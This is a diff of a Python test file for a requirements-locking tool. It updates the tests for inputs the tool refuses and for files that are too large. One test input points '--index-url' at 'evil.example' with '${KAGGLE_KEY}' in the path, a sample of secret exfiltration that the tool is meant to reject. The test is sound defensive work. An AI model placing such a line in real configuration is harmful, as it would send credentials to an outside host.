@@ -16,7 +16,8 @@ import pytest
 
 from orchestrator import spec
 from orchestrator.core.order import Outcome
-from orchestrator.freeze import bundle, requirements
+from orchestrator.errors import InputError
+from orchestrator.freeze import bundle, requirement_file, requirements
 from orchestrator.freeze.requirements import NotLocked, lock
 from tests.agent.sessions import QUICK, Stay, session
 from tests.package_index import Index, package_index, wheel
@@ -258,8 +259,7 @@ def test_a_file_with_hashes_is_its_own_lock(wanted: Path) -> None:
         ("greeting @ https://host/greeting-1.0-py3-none-any.whl\n", "requirements.txt:1 is not a released"),
         ("git+https://host/greeting\n", "requirements.txt:1 is not a released version"),
         ("--find-links wheels\ngreeting\n", "requirements.txt:1 takes packages from a folder"),
-        ("-r gone.txt\n", "gone.txt is not a file"),
-        ("-r /dev/zero\n", "zero is not a file"),
+        ("-r gone.txt\n", "requirements.txt:1 is not a released version"),
         ("--find-links file:///opt/wheels\ngreeting\n", "requirements.txt:1 takes packages from a folder"),
         ("--index-url https://evil.example/${KAGGLE_KEY}/\ngreeting\n", "refers to a variable"),
     ],
@@ -269,7 +269,9 @@ def test_what_cannot_be_locked_is_said(index: Index, wanted: Path, text: str, to
 
 
 def test_a_file_that_is_too_large_is_not_read(index: Index, wanted: Path) -> None:
-    assert "larger than 1 MB" in refused(wanted, "#" * (requirements.BYTES_MAX + 1), index.variables)
+    wanted.write_text("#" * (requirement_file.BYTES_MAX + 1))
+    with pytest.raises(InputError, match="is larger than"):
+        lock(wanted, index.variables)
 
 
 def test_a_file_that_includes_itself_ends(index: Index, wanted: Path) -> None:
